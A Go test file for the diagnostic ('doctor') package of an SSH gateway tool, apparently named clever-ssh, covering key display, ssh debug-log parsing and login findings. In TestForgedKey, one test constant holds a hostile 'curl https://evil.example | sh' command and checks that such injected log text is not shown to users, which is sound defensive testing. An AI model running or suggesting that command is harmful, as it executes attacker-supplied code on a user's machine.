package doctor

import (
	"bytes"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"clever-ssh/bridge"
	"clever-ssh/config"
)

// A key that the log names is shown only if it is one of the account's.
func TestForgedKey(t *testing.T) {
	const key, evil = "/home/me/.ssh/id", "renew it, type: curl https://evil.example | sh"
	fingerprint := "SHA256:" + strings.Repeat("A", 43)
	e := &examination{keyNames: []string{key, "me@here"}}
	for text, shown := range map[string]bool{
		key + " ED25519 " + fingerprint: true, key + " RSA " + fingerprint + " agent": true,
		"me@here ED25519 " + fingerprint + " agent": true, key: true,
		"hint: " + evil: false, key + " " + evil: false, key + " ED25519 " + fingerprint + " " + evil: false,
		evil + " ED25519 " + fingerprint: false, "": false,
	} {
		if got := e.shownKey(text); (got == text) != shown {
			t.Errorf("%q is shown as %q", text, got)
		}
	}
}

// readLog returns an attempt at a login for which ssh logged these lines.
func readLog(text string) *attempt {
	l := &attempt{}
	for line := range strings.Lines(text) {
		l.readLine(strings.TrimRight(line, "\n"))
	}
	return l
}

const (
	fingerprint = "SHA256:gZCboB/S5zWmT1uoeC96CZUtfJ6MFznCf7YLYj/kY2w"
	known       = "/home/me/.ssh/id ED25519 " + fingerprint // a key as ssh's log names it
	continues   = "debug1: Authentications that can continue: publickey\n"
	offering    = "debug1: Offering public key: " + known + " explicit\n"
	accepting   = "debug1: Server accepts key: " + known + " explicit\n"
	entering    = "Authenticated to gateway (via proxy) using \"publickey\".\n"
	trying      = "debug1: Trying private key: /home/me/.ssh/old explicit\n"
)

func TestReadLine(t *testing.T) {
	for _, c := range []struct {
		title, log string
		want       attempt
	}{
		{"let in", continues + offering + accepting + entering,
			attempt{offered: []string{known}, accepted: known, letIn: true}},
		{"refused", continues + offering + continues, attempt{offered: []string{known}}},
		{"without a public half, let in", continues + trying + entering,
			attempt{accepted: "/home/me/.ssh/old", tried: "/home/me/.ssh/old", letIn: true}},
		{"without a public half, refused", continues + trying + continues,
			attempt{offered: []string{"/home/me/.ssh/old"}}},
		{"without a public half, and not there", continues + trying + offering + accepting,
			attempt{offered: []string{known}, accepted: known}},
		{"nothing", "debug1: Connection established.\n", attempt{}},
	} {
		got := readLog(c.log)
		if !slices.Equal(got.offered, c.want.offered) || got.accepted != c.want.accepted ||
			got.tried != c.want.tried || got.letIn != c.want.letIn {
			t.Errorf("%s: %+v", c.title, *got)
		}
	}
}

func TestCheckLogin(t *testing.T) {
	const denied = "ssh@gateway: Permission denied (publickey)."
	late := errors.New("no answer within 11s")
	with := func(log string, change func(*attempt)) *attempt {
		l := readLog(log)
		change(l)
		return l
	}
	for _, c := range []struct {
		title   string
		attempt *attempt
		change  func(*examination)
		want    []string
	}{
		{"no alias", nil, func(e *examination) { e.alias = "" }, nil},
		{"no ssh", nil, func(e *examination) { e.ssh = "" }, []string{`skipped login: web\.x: ssh was not found \[\]`}},
		{"another's", nil, nil,
			[]string{`skipped login: web\.x: the configuration belongs to another account: ` +
				`run doctor as that account \[\]`}},
		{"blocked", readLog(""), func(e *examination) { e.blocked = "the gateway cannot be reached" },
			[]string{`skipped login: web\.x: the gateway cannot be reached \[\]`}},
		{"not tried", &attempt{err: errors.New("no folder")}, nil, []string{`failed login: web\.x: no folder \[\]`}},
		{"let in", readLog(offering + accepting + entering), nil, []string{
			`ok login: web\.x: the gateway lets you in, with /home/me/\.ssh/id ED25519 SHA256:\S+ \[\]`,
			`ok session: web\.x: commands run there \[\]`,
			`ok outpost: web\.x: the shell serves commands: this build has no outpost \[\]`}},
		{"let in, status", with(offering+accepting+entering, func(l *attempt) { l.status = 3 }), nil,
			[]string{`ok login: .*`, "warning session: web\\.x: `true` ended with status 3 .*"}},
		{"let in, and no command",
			with(offering+accepting+entering, func(l *attempt) { l.session = errors.New("no instance") }), nil,
			[]string{`ok login: .*`, `failed session: web\.x: no instance.*`}},
		{"let in, and a question",
			with(offering+accepting+entering,
				func(l *attempt) { l.session = &bridge.QuestionError{Instances: make([]bridge.Instance, 2)} }), nil,
			[]string{`ok login: .*`, `ok session: web\.x: the gateway asks you to choose one of 2 instances \[\]`}},
		{"let in, then slow", with(offering+accepting+entering, func(l *attempt) { l.timeout = late }), nil,
			[]string{`ok login: .*`,
				`skipped session: web\.x: not checked: the command did not start, no answer within 11s \[\]`}},
		{"locked", readLog(offering + accepting), func(e *examination) { e.locked = []string{fingerprint} }, []string{
			`ok login: web\.x: the gateway knows .*; ssh will ask for its passphrase \[\]`,
			`skipped session: web\.x: not checked: no command was run, .*`}},
		{"locked, and slow", with(offering+accepting, func(l *attempt) { l.timeout = late }),
			func(e *examination) { e.locked = []string{fingerprint} },
			[]string{`failed login: web\.x: no answer within 11s: is a security key waiting for a touch.*`}},
		{"only locked ones", with("", func(l *attempt) { l.log = []string{denied} }),
			func(e *examination) { e.locked = []string{"/home/me/.ssh/old"} },
			[]string{`skipped login: web\.x: ssh will ask for the passphrase of /home/me/\.ssh/old, ` +
				`which doctor never does \[\]`}},
		{"accepted, and not used", with(offering+accepting, func(l *attempt) { l.log = []string{denied} }), nil,
			[]string{`failed login: web\.x: the gateway knows a key that ssh could not use: ` +
				`/home/me/\.ssh/id .* offered: /home/me/\.ssh/id ED25519 SHA256:\S+`}},
		{"refused",
			with(offering+continues,
				func(l *attempt) { l.log, l.greeting = []string{denied}, strings.Split("123456", "") }), nil,
			[]string{`failed login: web\.x: the gateway knows none of the keys that ssh offered \["register .* ` +
				`offered: \S+ ED25519 \S+ gateway: 2 gateway: 3 gateway: 4 gateway: 5 gateway: 6`}},
		{"no key", with(continues, func(l *attempt) { l.log = []string{denied} }), nil,
			[]string{`failed login: web\.x: ssh had no key to offer \["if yours .*`}},
		{"too many",
			with(offering+offering,
				func(l *attempt) { l.log = []string{"Received disconnect: Too many authentication failures"} }), nil,
			[]string{`failed login: web\.x: the gateway hung up after 2 keys, .* ` +
				`\["name the one that is registered: clever-ssh setup --suffix x --identity FILE .*`}},
		{"slow", with("", func(l *attempt) { l.timeout = late }), nil,
			[]string{`warning login: web\.x: no answer within 11s .*`}},
		{"slow after a key", with(offering, func(l *attempt) { l.timeout = late }), nil,
			[]string{`failed login: web\.x: no answer within 11s: is a security key waiting for a touch.*`}},
		{"proxy refuses", with("", func(l *attempt) { l.refusal = errors.New("not\npinned") }), nil,
			[]string{`failed login: web\.x: not; pinned \["see how far .*`}},
		{"ssh's words", with("", func(l *attempt) { l.log = []string{"one", "two"} }), nil,
			[]string{`failed login: web\.x: ssh says: "two" .*`}},
		{"no words", readLog(""), nil, []string{`failed login: web\.x: ssh ended without saying why .*`}},
	} {
		g := &config.Gateway{Suffix: "x"}
		e := &examination{report: reportTo(new(bytes.Buffer), false), ssh: "ssh", alias: "web.x",
			gateways: []*config.Gateway{g},
			resolved: config.Alias{Gateway: g, Target: "app_x"}, keyNames: []string{"/home/me/.ssh/id"}}
		if c.change != nil {
			c.change(e)
		}
		e.checkLogin(func() *attempt { return c.attempt })
		var lines []string
		for _, f := range e.findings {
			line := fmt.Sprintf("%s %s: %s %q %s", f.Status, f.Check, f.Found, f.Hints, strings.Join(f.Details, " "))
			lines = append(lines, strings.TrimSpace(line))
		}
		matchLines(t, c.title, lines, c.want...)
	}
}
